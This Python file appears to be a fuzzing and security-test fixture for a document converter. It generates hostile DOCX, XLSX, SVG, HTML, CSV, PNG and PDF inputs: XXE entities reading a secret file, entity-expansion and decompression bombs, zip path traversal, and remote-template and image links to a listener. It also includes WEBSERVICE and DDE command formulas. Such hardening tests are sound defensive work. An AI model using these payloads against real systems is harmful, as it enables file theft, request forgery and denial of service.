"""Documents that want to do harm, each made when it is asked for."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import docx
import openpyxl
from PIL import Image

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90">'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
SAMPLES = Path(__file__).parents[2] / "watchconvert/faces/samples"


@dataclass(frozen=True)
class Evil:
    """One document: `make` gets the address of a listener and the path of a secret."""

    name: str
    targets: tuple[str, ...]
    make: Callable[[str, str], bytes]

    @property
    def source(self) -> str:
        """Its format."""
        return self.name.rpartition(".")[2]


def packed(parts: dict[str, bytes | str], like: bytes = b"") -> bytes:
    """Return a zipped document: the parts, over those of another one."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        if like:
            with zipfile.ZipFile(io.BytesIO(like)) as old:
                for name in old.namelist():
                    if name not in parts:
                        package.writestr(name, old.read(name))
        for name, data in parts.items():
            package.writestr(name, data)
    return stream.getvalue()


def letter(text: str = "hello") -> bytes:
    """Return a Word document."""
    document, stream = docx.Document(), io.BytesIO()
    document.add_paragraph(text)
    document.save(stream)
    return stream.getvalue()


def part_of(document: bytes, name: str) -> str:
    """Return one part of a zipped document."""
    with zipfile.ZipFile(io.BytesIO(document)) as package:
        return package.read(name).decode()


def workbook(rows: list[list[object]]) -> bytes:
    """Return an Excel workbook."""
    book, stream = openpyxl.Workbook(), io.BytesIO()
    for row in rows:
        book.active.append(row)
    book.save(stream)
    return stream.getvalue()


def with_doctype(document: bytes, part: str, doctype: str, use: str) -> bytes:
    """Return a document one of whose parts declares entities and uses one."""
    text = part_of(document, part)
    head, _, rest = text.partition("?>")
    return packed({part: f"{head}?>{doctype}{rest.replace('hello', use)}"}, document)


def remote_template(url: str, _secret: str) -> bytes:
    """Return a letter that wants its template from elsewhere."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" TargetMode="External" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{url}"/></Relationships>'
    )
    settings = part_of(letter(), "word/settings.xml").replace(
        "</w:settings>",
        '<w:attachedTemplate r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>',
    )
    return packed({"word/_rels/settings.xml.rels": rels, "word/settings.xml": settings}, letter())


def picture_elsewhere(url: str, secret: str) -> bytes:
    """Return a letter whose picture is elsewhere."""
    rels = part_of(letter(), "word/_rels/document.xml.rels").replace(
        "</Relationships>",
        f'<Relationship Id="rId90" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{url}"/>'
        f'<Relationship Id="rId91" TargetMode="External" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://{secret}"/></Relationships>',
    )
    body = part_of(letter(), "word/document.xml").replace(
        "hello",
        'hello</w:t></w:r><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata r:id="rId90" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></v:shape></w:pict></w:r><w:r><w:t>',
    )
    return packed({"word/_rels/document.xml.rels": rels, "word/document.xml": body}, letter())


def png(width: int, height: int, data: bytes | None = None) -> bytes:
    """Return a picture that says how large it is; its data is another matter."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = bytes((width + 7) // 8 + 1)
    body = zlib.compress(row * min(height, 2000)) if data is None else data
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", body)
        + chunk(b"IEND", b"")
    )


def pdf(*objects: str, root: str = "1 0 R") -> bytes:
    """Return a PDF of these objects, with a table of where they are."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    return (
        data
        + f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}trailer\n<</Size {len(places) + 1}/Root {root}>>\nstartxref\n{len(data)}\n%%EOF\n".encode()
    )


def nested_uses(depth: int) -> str:
    """Return groups each of which uses the one before ten times."""
    groups = ['<g id="a0"><rect width="9" height="9"/></g>']
    for number in range(1, depth + 1):
        uses = f'<use href="#a{number - 1}"/>' * 10
        groups.append(f'<g id="a{number}">{uses}</g>')
    return "".join(groups)


CATALOG = "<</Type/Catalog/Pages 2 0 R>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"


def deflated(data: bytes, times: int = 1) -> str:
    """Return a stream that is packed so many times; latin-1 keeps its bytes."""
    for _ in range(times):
        data = zlib.compress(data, 9)
    filters = "/FlateDecode" * times
    return f"<</Length {len(data)}/Filter[{filters}]>>stream\n{data.decode('latin-1')}\nendstream"


def pdf_bomb(_url: str, _secret: str) -> bytes:
    """Return a PDF whose page unpacks to a thousand times its size, twice."""
    inner = zlib.compress(zlib.compress(bytes(2**27), 9), 9)
    start = f"<</Length {len(inner)}/Filter[/FlateDecode/FlateDecode]>>stream\n".encode()
    data = pdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE, "STREAM", "<<>>")
    return data.replace(b"STREAM", start + inner + b"\nendstream")


def html(body: str) -> Callable[[str, str], bytes]:
    """Return the maker of a page."""
    return lambda url, secret: body.replace("{url}", url).replace("{secret}", secret).encode()


def fixed(data: bytes | str) -> Callable[[str, str], bytes]:
    """Return the maker of a document that is always the same."""
    return lambda _url, _secret: data.encode() if isinstance(data, str) else data


EVILS: tuple[Evil, ...] = (
    Evil("nested.docx", ("pdf", "html"), fixed(packed({"word/document.xml": packed({"a": bytes(10**7)}) * 20}))),
    Evil("bomb.docx", ("pdf", "html"), lambda *_: packed({"word/document.xml": b"<a>" + b" " * 3 * 10**7}, letter())),
    Evil("bomb.xlsx", ("pdf", "csv"), lambda *_: packed({"xl/sharedStrings.xml": b" " * 3 * 10**7}, workbook([["a"]]))),
    Evil("many.docx", ("html",), lambda *_: packed({f"word/media/{n}": b"" for n in range(20_100)}, letter())),
    Evil("up.docx", ("html", "pdf"), fixed(packed({"../../../../tmp/escaped": b"x", "/etc/escaped": b"x"}, letter()))),
    Evil("xxe.docx", ("html", "pdf", "txt"), lambda _, secret: with_doctype(
        letter(), "word/document.xml", f'<!DOCTYPE a [<!ENTITY x SYSTEM "file://{secret}">]>', "&x;")),
    Evil("laughs.docx", ("html", "pdf"), lambda *_: with_doctype(
        letter(), "word/document.xml", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]>', "&l9;")),
    Evil("template.docx", ("pdf", "html"), remote_template),
    Evil("picture.docx", ("pdf", "html"), picture_elsewhere),
    Evil("deep.docx", ("html",), lambda *_: packed({"word/document.xml": "<a>" * 200_000 + "</a>" * 200_000}, letter())),
    Evil("formulas.xlsx", ("csv", "pdf"), lambda url, _: workbook([[f'=WEBSERVICE("{url}")', '=cmd|"/c calc"!A1', "x" * 30_000]])),
    Evil("wide.xlsx", ("pdf", "csv"), lambda *_: packed({"xl/worksheets/sheet1.xml": part_of(workbook([["a"]]), "xl/worksheets/sheet1.xml")
         .replace('r="A1"', 'r="XFD1048576"').replace('ref="A1"', 'ref="A1:XFD1048576"')}, workbook([["a"]]))),
    Evil("xxe.svg", ("png", "pdf"), lambda _, secret: f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]>{SVG}<text y="20">&x;</text></svg>'.encode()),
    Evil("laughs.svg", ("png", "pdf"), fixed(f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>{SVG}<text y="20">&l9;</text></svg>')),
    Evil("huge.svg", ("png", "pdf"), fixed(SVG.replace('"90"', '"9000000000"') + "<rect/></svg>")),
    Evil("infinite.svg", ("png", "pdf"), fixed(SVG.replace('"90"', '"1e99"') + "<rect/></svg>")),
    Evil("uses.svg", ("png", "pdf"), fixed(f"{SVG}{nested_uses(8)}</svg>")),
    Evil("circle.svg", ("png", "pdf"), fixed(SVG + '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g><use href="#a"/></svg>')),
    Evil("filter.svg", ("png",), fixed(SVG + '<filter id="f"><feGaussianBlur stdDeviation="99999999"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>')),
    Evil("outside.svg", ("png", "pdf"), lambda url, secret: f'{SVG}<image href="{url}"/><image xlink:href="file://{secret}"/><style>@import url({url});</style></svg>'.encode()),
    Evil("script.html", ("pdf", "png"), html('<script src="{url}"></script><script>while(1);</script><p onclick="x">hello</p>')),
    Evil("outside.html", ("pdf", "png"), html('<base href="{url}"><img src="x.png"><img src="file://{secret}"><link rel=stylesheet href="{url}"><p>hello<style>@import "{url}";@font-face{font-family:x;src:url("{url}")}p{font-family:x}</style><meta http-equiv=refresh content="0;url={url}">')),
    Evil("deep.html", ("pdf",), fixed("<div>" * 100_000 + "hello")),
    Evil("tables.html", ("pdf",), fixed("<table><tr><td>" * 2000 + "hello")),
    Evil("wide.html", ("pdf", "png"), fixed('<div style="width:99999999px;height:99999999px">hello</div>')),
    Evil("line.csv", ("pdf", "xlsx"), lambda *_: b"a," * 20_000_000),
    Evil("cell.csv", ("pdf", "xlsx"), lambda *_: b'"' + b"a" * 40_000_000),
    Evil("nul.csv", ("pdf", "xlsx"), fixed(b"a,b\0,c\n" * 1000)),
    Evil("formula.csv", ("xlsx",), fixed('=cmd|"/c calc"!A1,+1,-1,@x\n')),
    Evil("line.txt", ("pdf",), lambda *_: b"a" * 20_000_000),
    Evil("deep.md", ("pdf", "html"), lambda *_: b"> " * 30_000 + b"hello\n\n" + b"[" * 30_000),
    Evil("links.md", ("pdf",), html("![x]({url}) ![y](file://{secret}) <iframe src='file://{secret}'></iframe> hello")),
    Evil("bomb.png", ("jpg", "pdf"), fixed(png(60_000, 60_000))),
    Evil("large.png", ("jpg", "pdf"), fixed(png(2**31 - 1, 2**31 - 1, zlib.compress(bytes(10**6))))),
    Evil("short.png", ("jpg", "pdf"), fixed(png(500, 500, zlib.compress(b"")))),
    Evil("text.png", ("jpg",), fixed(png(9, 9).replace(b"IDAT", b"zTXt", 1))),
    Evil("loop.pdf", ("jpg", "txt", "compress"), fixed(pdf(CATALOG, "<</Type/Pages/Kids[2 0 R]/Count 1>>"))),
    Evil("count.pdf", ("jpg", "split", "txt"), fixed(pdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 2000000000>>", PAGE, "null", "null"))),
    Evil("same.pdf", ("jpg", "txt"), fixed(pdf(CATALOG, f"<</Type/Pages/Kids[{'3 0 R ' * 100_000}]/Count 100000>>", PAGE, "null", "null"))),
    Evil("deep.pdf", ("jpg", "compress"), fixed(pdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1/X " + "[" * 50_000 + "]" * 50_000 + ">>", PAGE, "null", "null"))),
    Evil("form.pdf", ("jpg",), fixed(pdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE, "<</Length 4>>stream\n/F Do\nendstream",
         "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 15>>stream\n/F Do /F Do /F Do\nendstream"))),
    Evil("large.pdf", ("jpg",), fixed(pdf(CATALOG, "<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE.replace("99 99", "9999999 9999999"), "null", "null"))),
    Evil("bomb.pdf", ("jpg", "txt", "compress"), pdf_bomb),
)  # fmt: skip


def mutated(data: bytes, dice: random.Random) -> bytes:
    """Return a document with some of its bytes changed, cut or repeated."""
    changed = bytearray(data)
    for _ in range(dice.choice((1, 3, 10, 50))):
        at = dice.randrange(len(changed))
        match dice.randrange(4):
            case 0:
                changed[at] ^= 1 << dice.randrange(8)
            case 1:
                changed[at : at + dice.randrange(40)] = dice.randbytes(dice.randrange(40))
            case 2:
                changed[at : at + 4] = dice.choice(
                    (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff", b"\x80\0\0\0")
                )
            case _:
                start = dice.randrange(len(changed))
                changed[at:at] = changed[start : start + dice.randrange(200)]
    return bytes(changed[: len(changed) if dice.random() < 0.8 else dice.randrange(1, len(changed))])


def tiny_samples() -> dict[str, bytes]:
    """Return a small sound document of each kind, to be damaged."""
    made = {
        "letter.docx": letter("hello timber"),
        "sales.xlsx": workbook([["a", 1], ["b", 2.5]]),
        "page.html": b"<h1>hello</h1><p>timber",
    }
    for ending in ("png", "jpg", "gif", "bmp", "tif", "webp"):
        stream = io.BytesIO()
        Image.new("RGB", (16, 16), "red").save(stream, {"jpg": "jpeg", "tif": "tiff"}.get(ending, ending))
        made[f"picture.{ending}"] = stream.getvalue()
    made["drawing.svg"] = (SVG + '<rect width="9" height="9"/></svg>').encode()
    return made | {
        path.name: path.read_bytes()
        for path in SAMPLES.iterdir()
        if path.suffix in (".odt", ".pdf", ".pptx") and path.stat().st_size < 60_000
    }
